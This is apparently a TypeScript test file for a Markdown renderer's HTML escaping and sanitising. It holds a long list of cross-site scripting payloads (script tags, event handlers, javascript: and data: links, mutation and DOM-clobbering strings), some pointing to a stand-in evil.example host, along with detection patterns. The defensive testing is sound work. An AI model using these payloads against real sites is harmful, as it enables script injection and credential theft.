/**
 * Documents of authors who are not trusted. Each attack is built in both safe modes, alone and inside other Markdown,
 * and what comes out is read as a browser reads it.
 */
import type { Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, test } from 'vitest';
import { walk } from '../../../build/markdown/walk.ts';
import { article } from '../../support/conformance.ts';
import { faultOf } from '../../support/fuzz.ts';
import { parse } from '../../support/parse.ts';

const attacks: readonly string[] = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!---><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<!-- a --><script>alert(1)</script><!-- b -->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml ?><script>alert(1)</script>',
  '<!DOCTYPE x [<script>alert(1)</script>]>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style></script><script>alert(1)</script>',
  '</main></article></body></html><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
  '<template><script>alert(1)</script></template>',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<img src=x ONERROR="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img src=x\nonerror\n=\nalert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><img src=x onerror=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerover="alert(1)">x</div>',
  '<a href="#" onclick=alert(1)>x</a>',
  '<p contenteditable onblur=alert(1)>x</p>',
  '<x onclick=alert(1)>x</x>',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<area href="javascript:alert(1)">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<img src="javascript:alert(1)">',
  '<video poster="javascript:alert(1)"></video>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=f>x</button>',
  '<isindex action="javascript:alert(1)" type=image>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html,<b>)',
  '<javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '[![x](x.png)](javascript:alert(1))',
  // Frames, documents, redirects
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<portal src="https://evil.example/"></portal>',
  // Styles
  '<style>*{background:url(https://evil.example/)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  // What a second reading could turn into something else
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<table><td background="javascript:alert(1)"><tr><script>alert(1)</script>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  // Names that hide properties of `document`
  '<img name=currentScript>',
  '<form name=cookie><input id=body></form>',
  '<a id=forms></a><a id=forms name=action></a>',
  '## currentScript\n\n## cookie\n\n## body\n\n## Forms',
  '## x {#cookie}',
  // Text fields
  '```js title="</div><script>alert(1)</script>"\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js&#x20;onclick=alert(1)\nx\n```',
  ':::note[</div><script>alert(1)</script>]\nx\n:::',
  ':::note{#x" class="y" onclick="alert(1)" style="color:red"}\nx\n:::',
  ':::card[x]{href=javascript:alert(1) link="javascript:alert(1)"}\nx\n:::',
  '<Card title="x" href="javascript:alert(1)" onclick="alert(1)" />',
  '<TabItem value="\\" onclick=alert(1)" label="<img src=x onerror=alert(1)>">\n\nx\n\n</TabItem>',
  '::::tabs{group=""><script>alert(1)</script>"}\n:::tab[<script>alert(1)</script>]\nx\n:::\n::::',
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
  '$$\n\\href{javascript:alert(1)}{x} \\htmlClass{x}{y} \\htmlStyle{color:red}{z}\n$$',
  '## <script>alert(1)</script> {#x"onclick="alert(1)}',
  '![" onerror="alert(1)](x.png \'" onerror="alert(1)\')',
  '[x](y "\\" onclick=\\"alert(1)")',
  'a[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
];

const forbidden =
  /^(?:script|style|iframe|frame|frameset|object|embed|portal|base|meta|link|form|template|svg|math|noscript|xmp|plaintext|noembed|textarea|select|title)$/;
const clobbering = /^(?:currentScript|cookie|body|forms)$/;
/** The elements that browsers make properties of `document` by these. */
const named = /^(?:embed|form|iframe|img|object)$/;
const runs = (address: string): boolean =>
  /^(?:javascript|vbscript|data):/i.test([...address].filter((c) => c > ' ' && c !== '\u007f').join(''));

/** What of an article could do harm. Pictures and formulas that we draw are searched, too, but may be there. */
function harm(html: string): readonly string[] {
  const found: string[] = [];
  const drawn = new Set<unknown>();
  walk<Nodes>(fromHtml(html, { fragment: true }), (node) => {
    if (node.type === 'comment') found.push('comment');
    if (node.type !== 'element') return;
    if (/^(?:diagram-frame|math-block)$/.test(String(node.properties.className))) drawn.add(node.children[0]);
    if (forbidden.test(node.tagName) && !drawn.has(node)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || /^(?:style|srcDoc|action|formAction|httpEquiv|xLinkHref|background)$/.test(name))
        found.push(`${node.tagName} ${name}`);
      if (typeof value === 'string' && runs(value) && name !== 'title' && name !== 'alt')
        found.push(`${node.tagName} ${name}=${value}`);
      if (/^(?:id|name)$/.test(name) && named.test(node.tagName) && clobbering.test(String(value)))
        found.push(`${name}=${value}`);
    }
  });
  return found;
}

test('there are enough attacks, and the test sees harm where nothing is done against it', async () => {
  expect(new Set(attacks).size).toBeGreaterThanOrEqual(60);
  const kept = await Promise.all(attacks.map(async (text) => harm(await article(text))));
  expect(kept.filter((found) => found.length > 0).length).toBeGreaterThan(60);
});

describe.each(['escape', 'sanitize'] as const)('html: %s', (html) => {
  test.each(attacks)('%j does no harm', async (attack) => {
    const quoted = attack.replace(/^/gm, '> ');
    const item = attack.replace(/\n/g, '\n  ');
    for (const page of [attack, `text ${attack}`, `${quoted}\n`, `- ${item}\n`, `<div>\n\n${attack}\n\n</div>\n`])
      expect(harm(await article(page, { html })), page).toEqual([]);
  });

  test('all of them on one page do no harm', async () => {
    expect(harm(await article(attacks.join('\n\n'), { html }))).toEqual([]);
  });

  test.each([
    ['headings', '## A *b* {#own}\n\n### C\n\n### C'],
    ['links', '[a](./b.md) [c](https://d.org) <https://e.org> f@g.org [h](#i) [j](pathname:///k)'],
    ['images', '![a](./b.png "c")\n\n![d](https://e.org/f.svg)'],
    ['tables', '| a | b |\n|:-:|--:|\n| `c` | d |'],
    ['task lists', '- [x] a\n- [ ] b\n  1. c'],
    ['footnotes', 'a[^1] b[^1]\n\n[^1]: c'],
    ['code', '```js title="a" {1} showLineNumbers\nlet b;\n```\n\n    c'],
    ['notes', ':::tip[A *b*]{#c}\n\nd\n\n:::'],
    ['tabs', '::::tabs{group=os query=os}\n:::tab[A]{value=b default}\nc\n:::\n:::tab[D]\ne\n:::\n::::'],
    ['steps', ':::steps\n1. a\n\n   b\n2. c\n:::'],
    ['cards', '::::cards\n:::card[A]{href=./b.md icon=c}\nd\n:::\n::::'],
    ['file trees', ':::file-tree\n- a/\n  - **b.md** c\n  - …\n:::'],
    ['disclosures', ':::details[A]{open}\nb\n:::'],
    ['alerts', '> [!WARNING]\n> a'],
    ['components', '<Admonition type="tip" title="A">\n\nb <Badge text="C" type="tip" />\n\n</Admonition>'],
    ['lists of pages', ':::doc-card-list\n:::\n\n[[toc]]'],
    ['diagrams and formulas', '```mermaid\ngraph TD\nA-->B\n```\n\n$$\nx^2\n$$'],
    ['package managers', '```bash npm2yarn\nnpm install a\n```'],
    ['emphasis', '*a* **b** ~~c~~ `d` e\\\nf\n\n---\n\n> g'],
  ])('%s stay as they are', async (_, text) => {
    expect(await article(text, { html })).toBe(await article(text));
  });
});

describe('html: escape', () => {
  const escaped = (text: string) => article(text, { html: 'escape' });

  test('tags are shown as they were written', async () => {
    expect(await escaped('a <b>c</b>')).toBe('<p>a &#x3C;b>c&#x3C;/b></p>');
    expect((await escaped('<div>\n*a*\n</div>\n\n*b*')).trim()).toBe(
      '<p>&#x3C;div>\n*a*\n&#x3C;/div></p>\n<p><em>b</em></p>',
    );
  });

  test('comments are not shown', async () => {
    expect((await escaped('<!-- a -->\n\nb <!-- c -->d')).trim()).toBe('<p>b d</p>');
  });
});

describe('html: keep', () => {
  test.each([
    '<plaintext>\n\na',
    '<!--> </article> -->',
    '<!-- --!> </article> -->',
    '<? </article> ?>',
    '<![CDATA[ </article> ]]>',
    '<svg><title></article>',
    '<p><table><td></article>',
    '<noscript></article></noscript>',
    '<textarea>',
    '<select><option>',
  ])('nothing leaves the article or swallows what follows it: %j', async (text) => {
    expect(await faultOf(`${text}\n\nafter\n`)).toBeUndefined();
  });
});

describe('html: sanitize', () => {
  const sanitized = (text: string) => article(text, { html: 'sanitize' });

  test.each([
    '<details open><summary>a</summary><p>b</p></details>',
    '<p>a<br>b <kbd>c</kbd> <sub>d</sub> <mark>e</mark> <abbr title="f">g</abbr></p>',
    '<p><img src="https://a.org/b.png" alt="c" width="10" height="20"></p>',
    '<figure><p>a</p><figcaption>b</figcaption></figure>',
    '<p><a name="here"></a></p>',
  ])('harmless HTML stays: %s', async (text) => {
    expect(await sanitized(text)).toBe(text);
  });

  test('so does a table, in its frame', async () => {
    const table = '<table><thead><tr><th colspan="2">a</th></tr></thead></table>';
    expect(await sanitized(table)).toContain(`>${table}</div>`);
  });

  test('what a removed tag holds stays, unless it is no text', async () => {
    expect(await sanitized('<p><blink>a</blink><script>b</script></p>')).toBe('<p>a</p>');
  });

  test('an author cannot put on our clothes', async () => {
    expect(await sanitized('<div class="navbar hash-link admonition-note">a</div>')).toBe(
      '<div class="admonition-note">a</div>',
    );
  });
});

describe('names by which an element would be a property of `document`', () => {
  test.each(['keep', 'escape', 'sanitize'] as const)('are free for headings, which are none: %s', async (html) => {
    const { doc } = await parse('## Forms\n\n## cookie\n\n## cookie\n\n## x {#body}', undefined, { html });
    expect(doc.headings.map(({ id }) => id)).toEqual(['forms', 'cookie', 'cookie-1', 'body']);
  });

  test.each(['img', 'form', 'iframe', 'object', 'embed'])('are changed in HTML that is kept: <%s>', async (tag) => {
    const { html, doc } = await parse(`<div>\n<${tag} name=currentScript id=body alt="a"></${tag}></div>`);
    expect(html).toContain(`<${tag} name="user-content-currentScript" id="user-content-body" alt="a">`);
    expect(doc.anchors).toEqual(['user-content-body']);
  });

  test('and stay where they hide nothing', async () => {
    const { html, doc } = await parse('<p id="cookie">b</p>\n\n<a id="head" name="body"></a>');
    expect(html).toContain('<p id="cookie">');
    expect(doc.anchors).toEqual(['cookie', 'head', 'body']);
  });
});
